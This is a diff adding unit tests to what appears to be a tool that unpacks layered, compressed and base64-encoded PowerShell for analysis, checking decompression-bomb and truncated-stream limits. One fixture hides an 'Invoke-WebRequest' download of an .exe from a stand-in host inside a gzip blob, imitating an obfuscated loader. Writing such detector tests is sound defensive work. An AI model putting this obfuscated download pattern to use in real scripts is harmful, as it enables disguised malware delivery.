@@ -5,6 +5,7 @@ import bz2
 import codecs
 import gzip
 import io
+import random
 import zipfile
 import zlib
 
@@ -141,6 +142,28 @@ def test_inflate_is_bounded():
     assert len(decoders.inflate(gzip.compress(bytes(50_000_000)))[1]) <= decoders.MOST_OUT
 
 
+def test_inflate_is_whole_or_refused():
+    big = b"a" * (decoders.MOST_OUT + 1)
+    for pack in (gzip.compress, zlib.compress, bz2.compress, lambda b: zlib.compress(b)[2:-4]):
+        assert decoders.inflate(pack(big), decoders.MOST_INFLATE)[1:] == (big, None)
+        assert decoders.inflate(pack(big))[1:] == (b"", "max_decompression")
+        assert decoders.inflate(pack(SCRIPT.encode() * 9)[:-12])[1:] == (b"", "incomplete_stream")
+    assert decoders.inflate(gzip.compress(b"a" * 9) + gzip.compress(b"b" * 9)).output == b"a" * 9 + b"b" * 9
+    assert decoders.search(base64.b64encode(gzip.compress(SCRIPT.encode() * 20_000)).decode()) is None
+
+
+def test_layers_of_large_stages():
+    rng = random.Random(1)
+    lines = "".join(f"Write-Host '{rng.randbytes(40).hex()}'\n" for _ in range(11_000))
+    packed = gzip.compress((lines + "Invoke-WebRequest http://behind.test/a.exe").encode())
+    r = layers.analyse(f"$s = IO.Compression.GzipStream '{base64.b64encode(packed).decode()}'")
+    assert len(lines) > 1_000_000 and r.layers[1].content.endswith("http://behind.test/a.exe") and r.layers[1].final.endswith("http://behind.test/a.exe") and not r.limits
+    cut = layers.analyse(f"$s = IO.Compression.GzipStream '{base64.b64encode(packed[:9000]).decode()}'")
+    assert len(cut.layers) == 1 and cut.limits == ["incomplete_stream"]
+    bomb = layers.analyse(f"$s = IO.Compression.GzipStream '{base64.b64encode(gzip.compress(bytes(decoders.MOST_INFLATE + 1))).decode()}'")
+    assert len(bomb.layers) == 1 and bomb.limits == ["max_decompression"]
+
+
 def encoded(text):
     return base64.b64encode(text.encode("utf-16-le")).decode()
 
